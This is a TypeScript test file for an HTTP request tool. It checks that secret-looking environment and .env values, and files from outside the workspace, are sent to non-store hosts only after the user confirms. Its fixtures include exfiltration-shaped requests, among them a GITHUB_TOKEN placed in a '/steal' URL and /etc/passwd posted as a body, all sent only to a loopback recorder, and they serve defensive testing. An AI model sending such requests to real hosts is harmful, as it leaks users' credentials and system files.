// Values from the machine (secret-looking environment variables, .env entries, files from outside
// the workspace) go to a host that is not a store only when the caller says the user agreed. A
// recording server on loopback shows what really left.
import * as assert from 'assert';
import * as http from 'http';
import { parseHttpDocument, requestAt } from '../../src/core/http';
import { isStoresHost, looksSecretName, outboundItems } from '../../src/core/outbound';
import { runRequest, type RunInput } from '../../src/core/run-request';
import { closeConnections } from '../../src/core/send';
import type { Store } from '../../src/core/store';

describe('values from this machine sent to a host that is not a store', () => {
  let server: http.Server;
  let url: string;
  let hits: { url: string; body: string; headers: http.IncomingHttpHeaders }[];
  const store: Store = { id: 'shop', name: 'shop', baseUrl: 'https://shop.example.com', authMethod: 'none' };

  before(async () => {
    server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c) => chunks.push(c));
      req.on('end', () => {
        hits.push({ url: req.url ?? '', body: Buffer.concat(chunks).toString('utf8'), headers: req.headers });
        res.end('ok');
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  });
  beforeEach(() => { hits = []; });
  after(async () => { await closeConnections(); await new Promise((r) => server.close(r)); });

  function input(text: string, extra: Partial<RunInput> = {}): RunInput {
    const doc = parseHttpDocument(text);
    const request = requestAt(doc, doc.requests[0].requestLineRange.start.line)!;
    return {
      doc, request, stores: [store, { id: 'local', name: 'local', baseUrl: url.replace('127.0.0.1', 'localhost'), authMethod: 'none' }],
      secretsFor: async () => undefined,
      variables: { processEnv: { GITHUB_TOKEN: 'ghp_canary123456', HOME: '/home/me' }, dotenv: (n) => (n === 'API_KEY' ? 'dotenv-canary-42' : undefined) },
      readBodyFile: async () => Buffer.from('root:x:0:0:root:/root:/bin/bash\n'),
      readCaFile: async () => '',
      ...extra,
    };
  }

  it('tells secret-looking names from ordinary ones', () => {
    for (const n of ['GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'DB_PASSWORD', 'DB_PASS', 'api_key', 'SESSION_ID', 'JWT', 'NPM_AUTH']) assert.ok(looksSecretName(n), n);
    for (const n of ['HOME', 'USER', 'SHOP_URL', 'PER_PAGE', 'LANG']) assert.ok(!looksSecretName(n), n);
  });

  it('lists the secret-looking values and the files from outside, each once, by name', () => {
    const items = outboundItems(
      [{ kind: 'processEnv', name: 'GITHUB_TOKEN', value: 'a' }, { kind: 'processEnv', name: 'GITHUB_TOKEN', value: 'a' }, { kind: 'processEnv', name: 'HOME', value: '/h' }, { kind: 'dotenv', name: 'API_KEY', value: 'b' }],
      [{ written: '/etc/passwd', path: '/etc/passwd', bytes: 1277, inside: false }, { written: './body.json', path: '/ws/body.json', bytes: 10, inside: true }],
    );
    assert.deepStrictEqual(items.map((i) => i.label), ['$processEnv GITHUB_TOKEN', '$dotenv API_KEY', 'file /etc/passwd (1,277 B)']);
  });

  it('a secret-looking $processEnv value to another host: not sent unless the user agrees, and asked with its name', async () => {
    const text = `GET ${url}/steal?t={{$processEnv GITHUB_TOKEN}}\n`;
    const refused = await runRequest(input(text));
    assert.strictEqual(refused.exchange, undefined);
    assert.strictEqual(refused.notSentCode, 'outbound-refused');
    assert.match(refused.notSent!, /would send \$processEnv GITHUB_TOKEN from this machine to 127\.0\.0\.1:\d+, which is not one of your stores/);
    assert.ok(!refused.notSent!.includes('ghp_canary'), 'the sentence never holds the value');
    assert.deepStrictEqual(hits, []);

    const asked: string[][] = [];
    const sent = await runRequest(input(text, { confirmOutbound: async (q) => { asked.push(q.items.map((i) => i.label)); return true; } }));
    assert.deepStrictEqual(asked, [['$processEnv GITHUB_TOKEN']]);
    assert.strictEqual(sent.exchange?.response?.status, 200);
    assert.strictEqual(hits.length, 1);
  });

  it('$dotenv values and files from outside the workspace are asked about too; files inside and ordinary names are not', async () => {
    const asked: string[][] = [];
    const confirmOutbound = async (q: { items: { label: string }[] }) => { asked.push(q.items.map((i) => i.label)); return false; };
    await runRequest(input(`POST ${url}/x?k={{$dotenv API_KEY}}\n\n< /etc/passwd\n`, { confirmOutbound, locateBodyFile: async (p) => ({ path: p, inside: false }) }));
    assert.deepStrictEqual(asked, [['$dotenv API_KEY', 'file /etc/passwd (32 B)']]);
    assert.deepStrictEqual(hits, []);

    asked.length = 0;
    const fine = await runRequest(input(`POST ${url}/x?home={{$processEnv HOME}}\n\n< ./body.json\n`, { confirmOutbound, locateBodyFile: async () => ({ path: '/ws/body.json', inside: true }) }));
    assert.deepStrictEqual(asked, [], 'nothing to ask');
    assert.strictEqual(fine.exchange?.response?.status, 200);
  });

  it('a store\'s own host gets them without a question (the user\'s own store)', async () => {
    const asked: unknown[] = [];
    const r = await runRequest(input(`GET ${url.replace('127.0.0.1', 'localhost')}/x?t={{$processEnv GITHUB_TOKEN}}\n`, { confirmOutbound: async (q) => { asked.push(q); return false; } }));
    assert.deepStrictEqual(asked, []);
    assert.strictEqual(r.exchange?.response?.status, 200);
  });

  it('a variable inside a file body counts too ({{$processEnv}} in a <@ file)', async () => {
    const asked: string[][] = [];
    await runRequest(input(`POST ${url}/x\n\n<@ ./payload.json\n`, {
      readBodyFile: async () => Buffer.from('{"token": "{{$processEnv GITHUB_TOKEN}}"}'),
      locateBodyFile: async () => ({ path: '/ws/payload.json', inside: true }),
      confirmOutbound: async (q) => { asked.push(q.items.map((i) => i.label)); return false; },
    }));
    assert.deepStrictEqual(asked, [['$processEnv GITHUB_TOKEN']]);
    assert.deepStrictEqual(hits, []);
  });
});

describe('which hosts are a store\'s own for values from the machine', () => {
  const stores: Store[] = [
    { id: 'a', name: 'a', baseUrl: 'https://shop.example.com', authMethod: 'none', options: { homeUrl: 'http://www.shop.example.com' } },
    { id: 'b', name: 'b', baseUrl: 'https://127.0.0.1:8443', authMethod: 'none' },
  ];
  it('the base URL\'s and Home URL\'s host and port; http and https on their default ports are one site', () => {
    assert.ok(isStoresHost('https://shop.example.com/wp-json/', stores));
    assert.ok(isStoresHost('http://shop.example.com/x', stores));
    assert.ok(isStoresHost('https://www.shop.example.com/x', stores));
    assert.ok(isStoresHost('https://127.0.0.1:8443/x', stores));
  });
  it('another port of the same host is another program', () => {
    assert.ok(!isStoresHost('http://127.0.0.1:9999/x', stores));
    assert.ok(!isStoresHost('https://shop.example.com:8080/x', stores));
    assert.ok(!isStoresHost('https://evil.example/x', stores));
    assert.ok(!isStoresHost('not a url', stores));
  });
});
